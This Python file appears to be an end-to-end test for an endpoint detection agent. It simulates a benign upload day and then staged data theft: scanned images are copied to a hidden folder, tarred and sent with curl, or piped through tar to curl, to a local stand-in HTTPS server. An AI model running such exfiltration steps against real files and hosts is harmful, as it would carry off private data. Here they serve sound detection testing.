#!/usr/bin/env python3
"""upload.py RUN_DIR     images are scanned, read by others, packed and sent; the agent on this host tells who, how many, how much, where to

A real agent, real files, real connections: the other side is an HTTPS server in a network namespace of its own, standing for a net disk. Needs
root, ip, curl, tar, openssl. The agent runs in a mount namespace in which tracefs is mounted, so that nothing of this host changes.
"""
import collections
import hashlib
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "guest"))
import lab  # noqa: E402

IMAGES, STOLEN, SIZE = 200, 60, 800_000
NAME = "wgu%d" % (os.getpid() % 100000)
NET = "10.%d.%d" % (64 + os.getpid() % 64, os.getpid() // 64 % 256)
HERE, THERE, PORT = NET + ".1", NET + ".2", 8443

SERVER = r'''
import http.server, json, ssl, sys
class Disk(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        body, kind = (b"x" * 3000000, "application/octet-stream") if self.path.endswith(".bin") else (b"<h1>orders</h1>", "text/html")
        with open(sys.argv[4] + ".seen", "a") as f:
            f.write(json.dumps({"path": self.path, "agent": self.headers["User-Agent"]}) + "\n")
        self.send_response(200); self.send_header("Content-Type", kind); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def do_PUT(self):
        whole = 0
        if self.path.startswith("/broken/"):  # ends in the middle of the content, with no answer
            self.rfile.read(100000)
            self.close_connection = True
            return
        if self.headers["Transfer-Encoding"] == "chunked":
            size = int(self.rfile.readline(), 16)
            while size:
                whole += len(self.rfile.read(size))
                self.rfile.readline()
                size = int(self.rfile.readline(), 16)
            self.rfile.readline()
        else:
            left = int(self.headers["Content-Length"])
            while whole < left:
                whole += len(self.rfile.read(min(65536, left - whole)))
        with open(sys.argv[4], "a") as f:
            f.write(json.dumps({"path": self.path, "agent": self.headers["User-Agent"], "bytes": whole}) + "\n")
        self.send_response(201); self.send_header("Content-Length", "0"); self.end_headers()
    def log_message(self, *a): pass
server = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Disk)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[3])
server.socket = context.wrap_socket(server.socket, server_side=True)
print("ready", flush=True)
server.serve_forever()
'''


def must(*words, **more):
    ended = lab.run(list(words), **more)
    if ended.status != 0:
        raise lab.Broken("%s: %s" % (" ".join(words)[:200], ended.said()))
    return ended


class NetDisk:
    """The server, and the way to it. Everything has a name of this run's own, and goes with it."""

    def __init__(self, folder):
        self.folder, self.process, self.got = folder, None, os.path.join(folder, "got.jsonl")

    def start(self):
        pem = os.path.join(self.folder, "disk.pem")
        must("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=disk.example", "-keyout", pem, "-out", pem + ".crt")
        with open(pem, "a") as f:
            f.write(lab.read(pem + ".crt"))
        must("ip", "netns", "add", NAME)
        must("ip", "link", "add", NAME + "a", "type", "veth", "peer", "name", NAME + "b", "netns", NAME)
        must("ip", "addr", "add", HERE + "/24", "dev", NAME + "a")
        must("ip", "link", "set", NAME + "a", "up")
        must("ip", "-n", NAME, "addr", "add", THERE + "/24", "dev", NAME + "b")
        must("ip", "-n", NAME, "link", "set", NAME + "b", "up")
        script = os.path.join(self.folder, "disk.py")
        with open(script, "w") as f:
            f.write(SERVER)
        self.process = subprocess.Popen(
            ["ip", "netns", "exec", NAME, sys.executable, script, THERE, str(PORT), pem, self.got], stdout=subprocess.PIPE, text=True
        )
        if self.process.stdout.readline().strip() != "ready":
            raise lab.Broken("the net disk does not start")

    def stop(self):
        if self.process:
            self.process.terminate()
            self.process.wait(10)
        lab.run(["ip", "link", "del", NAME + "a"])
        lab.run(["ip", "netns", "del", NAME])

    def received(self, path):
        return sum(one["bytes"] for one in map(json.loads, lab.read(self.got).splitlines()) if one["path"].startswith(path))


class Upload:
    def __init__(self, folder):
        self.folder, self.checks = folder, lab.Checks()
        self.home, self.scan, self.bin = (os.path.join(folder, n) for n in ("home", "scan", "bin"))
        self.hidden = os.path.join(folder, ".cache", ".x")
        self.disk, self.agent, self.numbers = NetDisk(folder), None, []

    def run(self):
        try:
            self.prepare()
            self.disk.start()
            self.start()
            self.benign_day()
            self.crime()
            self.no_number_is_left()
        except (lab.Broken, subprocess.SubprocessError) as e:
            self.checks.that("the scenario runs to its end", False, e)
            if self.agent:
                print(lab.read(self.agent.err)[-2000:])
        finally:
            if self.agent:
                self.agent.stop()
            self.disk.stop()
        return self.checks.status()

    # -- the desk --------------------------------------------------------------------------------

    def prepare(self):
        for each in (os.path.join(self.home, "config"), self.scan, self.bin, self.hidden):
            os.makedirs(each)
        # Programs of their own, so that the settings can name them and nothing else on this host is one.
        self.scanner = shutil.copy(shutil.which("dd"), os.path.join(self.bin, "scanner"))
        self.uploader = shutil.copy(shutil.which("curl"), os.path.join(self.bin, "uploader"))
        with open(self.uploader, "rb") as f:
            sha256 = hashlib.sha256(f.read()).hexdigest()
        with open(os.path.join(self.home, "config", "agent.yaml"), "w") as f:
            f.write("sensors:\n  image:\n    folders: [%s]\n    programs: [%s, '%s sha256:%s']\n" % (self.scan, self.scanner, self.uploader, sha256))
            f.write("    summary_every: 10s\n  upload:\n    summary_every: 10s\n")
        source = random.Random(571)
        self.paper = os.path.join(self.folder, "paper.jpg")
        for i in range(IMAGES):
            self.numbers.append("SF1%012d" % source.randrange(10**12))
        self.numbers[7] = "77316523125896"  # the form of another carrier, bare digits

    def start(self):
        command = "mount -t tracefs none /sys/kernel/tracing; exec %s -jar %s run --home %s" % (" ".join(lab.JVM), lab.AGENT_JAR, self.home)
        self.agent = lab.Server(["unshare", "-m", "sh", "-c", command], self.folder, "agent")
        self.agent.ready(120)
        # What "status" shows is written every two seconds.
        states = lab.wait_for("the sensors' states", self.decided, 20)
        for name in ("image", "upload"):
            self.checks.that("the sensor %s sees" % name, states[name]["state"] in ("live", "reduced"), states[name])
        traced = "tracefs" not in states["upload"]["detail"]
        if not traced:
            print("SKIPPED owners of the shortest connections: %s" % states["upload"]["detail"], flush=True)

    def decided(self):
        states = {s["name"]: s for s in self.cli("status", "--json").json()["sensors"]}
        return states if all(s["state"] != "starting" for s in states.values()) else None

    def cli(self, *words):
        return lab.run(lab.JVM + ["-jar", lab.AGENT_JAR] + list(words) + ["--home", self.home], 120)

    def records(self, kind=None):
        return self.cli("evidence", "list", "--json", "--limit", "100000", *(["--kind", kind] if kind else [])).lines()

    def sum(self, kind, program):
        """Images and result over the records of a program."""
        mine = [r["event"] for r in self.records(kind) if program_of(r["event"]) == program]
        return sum(e["unmapped"]["images"] for e in mine), mine

    def awaits(self, what, kind, program, images, seconds=60):
        def there():
            return self.sum(kind, program)[0] >= images and self.sum(kind, program)

        try:
            got, records = lab.wait_for(what, there, seconds, 1)
        except lab.Broken:
            got, records = self.sum(kind, program)
        spread = [e["time"] - e["start_time"] for e in records]
        self.checks.that(what, got == images, "%d images in %d records over %s ms" % (got, len(records), spread))
        return records

    # -- a day without harm ----------------------------------------------------------------------

    def scanned(self, i):
        day = os.path.join(self.scan, "2026-11-%02d" % (1 + i % 2))
        os.makedirs(day, exist_ok=True)
        return os.path.join(day, self.numbers[i] + ".jpg")

    def benign_day(self):
        began = time.time()
        for i in range(IMAGES):
            with open(self.paper, "wb") as f:
                f.write(b"\xff\xd8\xff\xe0" + random.Random(i).randbytes(SIZE - 4))
            must(self.scanner, "if=" + self.paper, "of=" + self.scanned(i), "bs=1M", "status=none")
        print("%d images scanned in %.1f s" % (IMAGES, time.time() - began), flush=True)
        self.awaits("the scanner made each image once", "image.made", self.scanner, IMAGES)
        for first in range(0, IMAGES, 50):
            files = ",".join(self.scanned(i) for i in range(first, first + 50))
            must(self.uploader, "-skf", "-T", "{%s}" % files, "https://%s:%d/firm/" % (THERE, PORT))
        self.awaits("the uploader read each image once", "image.read", self.uploader, IMAGES)
        self.sent("the uploader", self.uploader, "/firm/", True)
        findings = [r for r in self.records("finding.new") if r["event"]["severity_id"] > 1]
        self.checks.that("the allowed uploader sending everything is no finding", not findings, json.dumps(findings)[:800] if findings else "")
        # Not at 200 images a minute, and not here: one record an interval and act.
        count = collections.Counter(r["type"] for r in self.records() if r["type"].startswith(("image.", "net.")))
        self.checks.that("the records are sums", sum(count.values()) <= 60, dict(count))

    def sent(self, who, program, path, allowed):
        received = self.disk.received(path)

        def there():
            found = [r["event"] for r in self.records("net.sent") if program_of(r["event"]) == program]
            return sum(e["traffic"]["bytes_out"] for e in found) >= received and found

        found = lab.wait_for("what %s sent" % who, there, 40, 1)
        out = sum(e["traffic"]["bytes_out"] for e in found)
        off = 100.0 * (out - received) / received
        self.checks.that("the bytes of %s within 2 %%" % who, abs(off) <= 2, "%d of content received, %d sent: %+.2f %%" % (received, out, off))
        ends = {(e["dst_endpoint"]["ip"], e["dst_endpoint"]["port"], e["unmapped"]["allowed"]) for e in found}
        self.checks.that("where %s sent to" % who, ends == {(THERE, PORT, allowed)}, ends)

    # -- the crime -------------------------------------------------------------------------------

    def crime(self):
        stolen = [self.scanned(i) for i in range(STOLEN)]
        cp, tar, curl, cat = (os.path.realpath(shutil.which(n)) for n in ("cp", "tar", "curl", "cat"))
        must("cp", *stolen, self.hidden)
        must("sh", "-c", 'for f; do sh -c "cat \\"\\$1\\"; sleep 0.02" sh "$f"; done >/dev/null', "sh", *stolen)
        pack = os.path.join(self.hidden, "upd.tar")
        must("tar", "-C", self.scan, "-cf", pack, *[os.path.relpath(f, self.scan) for f in stolen])
        began = time.time()
        must("curl", "-skf", "--limit-rate", "30M", "-T", pack, "https://%s:%d/disk/" % (THERE, PORT))
        sent_at = time.time()
        finding = self.finding(curl)
        print("found %.1f s after the end of an upload of %.1f s" % (finding["time"] / 1000 - sent_at, sent_at - began), flush=True)
        facts = finding["unmapped"]
        self.checks.that("the finding names the program", facts["path"] == curl, facts)
        self.checks.that("the finding counts the images", facts["images"] == str(STOLEN), facts["images"])
        off = 100.0 * (int(facts["bytes"]) - self.disk.received("/disk/")) / self.disk.received("/disk/")
        self.checks.that("the finding has the bytes within 2 %", abs(off) <= 2, "%s: %+.2f %%" % (facts["bytes"], off))
        self.checks.that("the finding says where to", facts["peer"] == "%s:%d" % (THERE, PORT), facts["peer"])
        self.checks.that("the finding is high", finding["severity_id"] == 4, finding["severity_id"])
        for what, kind, program in (
            ("cp read them", "image.read", cp),
            ("cp copied them", "image.copied", cp),
            ("readers of 20 ms are named", "image.read", cat),
            ("tar read them", "image.read", tar),
            ("tar packed them", "image.packed", tar),
            ("curl had all that is in the archive", "image.read", curl),
        ):
            self.awaits(what, kind, program, STOLEN, 40)
        packed = self.sum("image.packed", tar)[1]
        self.checks.that("the archive is named", packed and packed[-1]["file_result"]["path"] == pack, packed and packed[-1]["file_result"])
        self.sent("curl", curl, "/disk/", False)
        self.piped(curl)

    def piped(self, curl):
        """No file in between: the two programs share a shell and nothing else."""
        lonely = shutil.copy(curl, os.path.join(self.bin, "other"))
        files = " ".join(os.path.relpath(self.scanned(i), self.scan) for i in range(100, 140))
        must("bash", "-c", "tar -C %s -c %s | %s -skf -T - https://%s:%d/pipe/x" % (self.scan, files, lonely, THERE, PORT))
        found = self.finding(lonely)
        self.checks.that("an archive through a pipe counts its images", int(found["unmapped"]["images"]) >= 40, found["unmapped"])

    def finding(self, program):
        def there():
            all_of_it = [r["event"] for r in self.records("finding.new")]
            found = [e for e in all_of_it if e["unmapped"].get("path") == program and e["unmapped"]["rule"] == "images-carried-off"]
            return found and found[-1]

        try:
            return lab.wait_for("a finding on " + program, there, 60, 1)
        except lab.Broken:
            for r in self.records():
                if r["type"].startswith(("image.", "net.", "finding", "sensor")):
                    print(r["type"], json.dumps({k: r["event"].get(k) for k in ("actor", "file", "file_result", "dst_endpoint", "traffic", "unmapped", "status_detail")}))
            raise

    # -- what is not kept ------------------------------------------------------------------------

    def no_number_is_left(self):
        self.agent.stop()
        shown = json.dumps(self.records())
        whole = [n for n in self.numbers if n in shown]
        stored = b""
        for name in os.listdir(os.path.join(self.home, "data")):
            at = os.path.join(self.home, "data", name)
            if os.path.isfile(at):
                with open(at, "rb") as f:
                    stored += f.read()
        kept = [n for n in self.numbers if n.encode() in stored]
        self.checks.that("no waybill number is in the log", not whole and not kept, "%d %d" % (len(whole), len(kept)))
        masked = [p for p in lab.values([r["event"] for r in self.records()], "path") if re.search(r"\*{8,}\d{4}\.jpg$", p)]
        self.checks.that("a masked name keeps its last four digits", bool(masked), masked[:2])


def program_of(event):
    return event.get("actor", {}).get("process", {}).get("path")


def main():
    for name in ("ip", "curl", "tar", "openssl", "unshare", "dd"):
        if not shutil.which(name):
            raise SystemExit("upload.py needs %s" % name)
    folder = os.path.abspath(sys.argv[1])
    shutil.rmtree(folder, ignore_errors=True)
    os.makedirs(folder)
    signal.signal(signal.SIGTERM, lambda *a: sys.exit(143))  # so that the namespace goes on a time-out too
    sys.exit(Upload(os.path.realpath(folder)).run())


if __name__ == "__main__":
    main()
